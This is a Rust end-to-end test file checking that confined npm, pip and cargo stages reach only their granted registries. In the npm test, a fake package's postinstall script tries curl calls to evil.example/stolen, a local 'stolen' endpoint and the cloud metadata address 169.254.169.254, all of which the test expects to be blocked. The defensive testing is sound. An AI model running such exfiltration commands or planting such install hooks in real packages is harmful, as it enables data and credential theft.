//! The granted hosts of confined programs: package managers that install from them, and what tries to reach others.

use std::net::TcpListener;

use end_to_end::{Project, Registry, confined, has};
use serde_json::Value;

use crate::RUNNER;

/// Somebody's server that no stage may reach.
struct Home(TcpListener);

impl Home {
    fn new() -> Home {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
        listener.set_nonblocking(true).expect("a flag");
        Home(listener)
    }

    fn port(&self) -> u16 {
        self.0.local_addr().expect("an address").port()
    }

    fn was_reached(&self) -> bool {
        self.0.accept().is_ok()
    }
}

fn pipeline(toolchain: &str, program: &str, network: &str, stage: &str, with: &str) -> String {
    format!(
        "format = 1\nname = \"egress\"\n\n[stage.install]\nuses = \"command\"\ntimeout = \"2m\"\n{stage}\n[stage.install.with]\n{with}\n\
         [stage.install.grants]\nfiles = [{{ path = \".\", access = \"write\" }}]\n\
         commands = {{ in = \"process\", toolchain = \"{toolchain}\", programs = [\"{program}\"], network = [{network}] }}\n"
    )
}

fn place(connection: &Value) -> String {
    format!("{}:{}", connection["host"].as_str().unwrap_or_default(), connection["port"])
}

#[test]
fn npm_reaches_the_granted_registry_and_a_postinstall_script_nothing_else() {
    let test = "npm_reaches_the_granted_registry_and_a_postinstall_script_nothing_else";
    if !confined(RUNNER, test)
        || !has("npm", "install Node.js, such as with `apt-get install npm`", test)
        || !has("curl", "`apt-get install curl`", test)
    {
        return;
    }
    let (registry, home) = (Registry::start(), Home::new());
    let (host, port) = (registry.host(), home.port());
    let phone = format!(
        "can() {{ what=$1; shift; if \"$@\" >/dev/null 2>&1; then echo \"CAN $what\"; else echo \"CANNOT $what\"; fi; }}\n\
         can run true\n\
         can plain curl -sf -m 10 http://localhost:{port}/stolen\n\
         can tunnel curl -sf -m 10 https://evil.example/stolen\n\
         can address curl -sf -m 10 https://169.254.169.254/latest/meta-data\n\
         can direct curl -sf -m 10 --noproxy '*' http://127.0.0.1:{port}/stolen\n\
         can socket node -e 'require(\"net\").connect({port}, \"127.0.0.1\").on(\"connect\", () => process.exit(0)).on(\"error\", () => process.exit(1))'\n"
    );
    registry.npm_package("greet", &phone);
    let network = format!("{{ host = \"{host}\", private = true }}");
    let run = "run = [\"npm\", \"install\", \"--no-audit\", \"--no-fund\", \"--foreground-scripts\", \"greet\"]";
    let project = Project::new(RUNNER)
        .file("package.json", "{ \"name\": \"shop\", \"version\": \"1.0.0\" }")
        .file(".npmrc", format!("registry=http://{host}/\n"))
        .file("pipeline.toml", pipeline("node", "npm", &network, "", run));
    let told = project.exec_json().expect(0).told();

    let log = told.log("install");
    for tried in ["plain", "tunnel", "address", "direct", "socket"] {
        assert!(log.contains(&format!("CANNOT {tried}")), "{tried}\n{log}");
    }
    assert!(log.contains("CAN run") && !home.was_reached(), "{log}");
    assert!(registry.asked().iter().any(|path| path == "/greet/-/greet-1.0.0.tgz"), "{:?}", registry.asked());

    let (allowed, refused): (Vec<&Value>, Vec<&Value>) = told.all("connection").partition(|connection| connection["allowed"] == true);
    assert!(!allowed.is_empty() && allowed.iter().all(|connection| place(connection) == host), "{allowed:?}");
    assert!(allowed.iter().any(|connection| connection["bytes-in"].as_u64() > Some(300)), "{allowed:?}");
    let mut places: Vec<String> = refused.iter().map(|connection| place(connection)).collect();
    places.sort();
    let mut wanted = ["169.254.169.254:443".to_owned(), "evil.example:443".to_owned(), format!("localhost:{port}")];
    wanted.sort();
    assert_eq!(places, wanted);
    assert!(told.all("connection").all(|connection| connection["command"] == 1), "{}", told.printed());

    let denials = told.denials("install");
    assert_eq!(denials.len(), 3, "{denials:?}");
    let evil = denials.iter().find(|denial| denial.subject == "evil.example:443").expect("it is told by name");
    assert_eq!((evil.effect.as_str(), evil.code.as_str()), ("commands.connect", "not-granted"));
    let remedy = evil.remedy.as_deref().expect("it could be granted");
    assert!(remedy.contains(&format!("programs = [\"npm\"], network = [{network}, \"evil.example:443\"]")), "{remedy}");

    // what is read back later
    let asked = registry.asked().len();
    let run = told.all("run-started").next().and_then(|event| event["run"].as_str()).expect("a run").to_owned();
    let ledger = project.run(&["ledger", &run]).expect(0).says(&host).says("evil.example:443").says("the host and port are not granted");
    assert!(!ledger.stdout.contains("never contacted"), "{}", ledger.stdout);
    project.run(&["ledger", &run, "--denied"]).expect(0).says("evil.example:443").never_says(&format!("{host}\n"));
    project.run(&["ledger", &run, "--format", "sarif"]).expect(0).says("evil.example:443").says("network = [");
    project.run(&["show", &run]).expect(0).says("evil.example:443");
    project.run(&["replay", &run, "install"]).expect(0);
    assert_eq!(registry.asked().len(), asked, "a replay connects to nothing");
}

#[test]
fn pip_reaches_the_granted_index() {
    let test = "pip_reaches_the_granted_index";
    if !confined(RUNNER, test) || !has("python3", "install Python, such as with `apt-get install python3-pip`", test) {
        return;
    }
    let registry = Registry::start();
    registry.wheel("greet", std::path::Path::new("python3"));
    let host = registry.host();
    let run = format!(
        "run = [\"python3\", \"-m\", \"pip\", \"download\", \"--no-deps\", \"-d\", \"/scratch\", \"--index-url\", \"http://{host}/simple/\", \"greet\"]"
    );
    let network = format!("{{ host = \"{host}\", private = true }}, \"idle.example:443\"");
    let project = Project::new(RUNNER).file("pipeline.toml", pipeline("python", "python3", &network, "", &run));
    let told = project.exec_json().expect(0).told();
    assert!(told.all("connection").all(|connection| place(connection) == host && connection["allowed"] == true), "{}", told.printed());
    assert!(registry.asked().iter().any(|path| path.ends_with(".whl")), "{:?}", registry.asked());
    let run = told.all("run-started").next().and_then(|event| event["run"].as_str()).expect("a run").to_owned();
    project.run(&["ledger", &run]).expect(0).says("\"idle.example:443\" in `network`: never contacted");
}

#[test]
fn cargo_reaches_the_granted_registry() {
    let test = "cargo_reaches_the_granted_registry";
    if !confined(RUNNER, test) || !has("cargo", "install rustup", test) {
        return;
    }
    let registry = Registry::start();
    registry.cargo_crate("greet");
    let host = registry.host();
    let network = format!("{{ host = \"{host}\", private = true }}");
    let env = "env = { CARGO_HOME = \"/scratch/cargo\" }\n";
    let project = Project::new(RUNNER)
        .file("Cargo.toml", "[package]\nname = \"shop\"\nversion = \"1.0.0\"\nedition = \"2021\"\n[dependencies]\ngreet = { version = \"1\", registry = \"local\" }\n")
        .file("src/lib.rs", "")
        .file(".cargo/config.toml", format!("[registries.local]\nindex = \"sparse+http://{host}/index/\"\n"))
        .file("pipeline.toml", pipeline("rust", "cargo", &network, env, "run = [\"cargo\", \"fetch\"]"));
    let told = project.exec_json().expect(0).told();
    assert!(told.all("connection").all(|connection| place(connection) == host && connection["allowed"] == true), "{}", told.printed());
    assert!(registry.asked().iter().any(|path| path.ends_with("/download")), "{:?}", registry.asked());
}

#[test]
fn the_stage_can_not_turn_the_proxy_elsewhere() {
    let test = "the_stage_can_not_turn_the_proxy_elsewhere";
    if !confined(RUNNER, test) {
        return;
    }
    let script = "run = [\"env\"]";
    let env = "env = { HTTPS_PROXY = \"http://evil.example:1\", NO_PROXY = \"*\" }\n";
    let project = Project::new(RUNNER).file("pipeline.toml", pipeline("system", "env", "\"registry.example:443\"", env, script));
    let told = project.exec_json().expect(0).told();
    let log = told.log("install");
    assert!(log.contains("HTTPS_PROXY=http://127.0.0.1:3128") && log.contains("NO_PROXY=localhost,127.0.0.1,::1,.stage"), "{log}");
    assert!(!log.contains("evil.example"), "{log}");
    // and without hosts nothing is set
    let none = project.read("pipeline.toml").replace(", network = [\"registry.example:443\"]", "");
    project.write("pipeline.toml", none.replace(env, ""));
    let told = project.exec_json().expect(0).told();
    assert!(!told.log("install").contains("3128"), "{}", told.log("install"));
}

#[test]
fn the_plan_shows_the_hosts_and_mistakes_are_spanned() {
    let with = "run = [\"sh\", \"-c\", \"true\"]";
    let hosts = "\"registry.example:443\", { host = \"npm.internal:4873\", private = true }";
    let project = Project::new(RUNNER).file("pipeline.toml", pipeline("system", "sh", hosts, "", with));
    project
        .run(&["plan"])
        .expect(0)
        .says("a network of the hosts below")
        .says("connect to registry.example:443")
        .says("connect to npm.internal:4873 (private addresses too)");
    project.replace("pipeline.toml", "registry.example:443", "registry.example");
    project.run(&["check"]).expect(3).says("bad-host").says("`registry.example` has no port").says("\"registry.example:443\"");
}
